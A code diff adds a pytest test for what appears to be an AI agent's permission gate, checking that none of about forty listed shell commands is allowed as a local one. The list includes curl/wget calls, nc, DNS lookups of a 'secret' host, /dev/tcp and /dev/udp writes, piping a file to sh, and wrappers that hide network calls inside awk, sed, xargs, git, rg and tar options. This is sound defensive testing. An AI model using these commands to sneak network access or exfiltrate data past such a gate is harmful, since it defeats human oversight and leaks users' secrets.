@@ -193,3 +193,64 @@ async def test_a_lasting_permission_is_never_offered_for_what_the_gate_asks_abou
         answer = await judged(bench, BOTH, name, **arguments)
         assert isinstance(answer, Asked), name
         assert (answer.offer, bool(answer.no_offer)) == (None, True), name
+
+
+NETWORK = """
+curl https://a.example/
+wget https://a.example/
+ssh host ls
+scp a.txt host:
+rsync a.txt host:
+nc host 80
+ping -c1 x.example
+dig secret.a.example
+getent hosts secret.a.example
+logger -n a.example secret
+git fetch
+git push
+git clone https://a.example/x
+git ls-remote
+git archive --remote=host x
+pip install x
+openssl s_client -connect a.example:1
+cat a.txt > /dev/udp/1.2.3.4/53
+cat < /dev/tcp/1.2.3.4/80
+exec 3<>/dev/tcp/a.example/80
+env curl https://a.example/
+time nice curl https://a.example/
+find . -exec curl https://a.example/ {} ;
+xargs curl < a.txt
+cat a.txt | xargs -n1 curl
+cat a.txt | sh
+sort --compress-prog=./x a.txt
+tar cf host:x a.txt
+tar -I ./x -cf a b
+awk 'BEGIN{system("curl x")}'
+sed 1e a.txt
+diff a.txt <(curl https://a.example/)
+echo $(curl https://a.example/)
+if curl https://a.example/; then ls; fi
+f() { curl https://a.example/; }; f
+ls; . ./a.txt
+git -c core.pager=./x log
+git log --ext-diff
+git grep -O./x y
+rg --pre ./x y
+gh api x
+ls && curl https://a.example/
+""".strip().split("\n")
+
+
+@pytest.mark.requirement("H4")
+@pytest.mark.parametrize("autonomy", ["supervised", "full"])
+async def test_no_command_that_could_use_the_network_passes_for_a_local_one(
+    bench_of: Callable[..., Bench], autonomy: str
+) -> None:
+    bench = bench_of()
+    bench.settings = changed(bench.settings, autonomy=autonomy, allowed_hosts=("a.example", "x.example"))
+    (bench.workspace / "a.txt").write_text("secret\n")
+    passed = []
+    for command in NETWORK:
+        answer = await judged(bench, WEB, "shell", command=command)
+        passed += [command] if isinstance(answer, Allowed) else []
+    assert passed == []
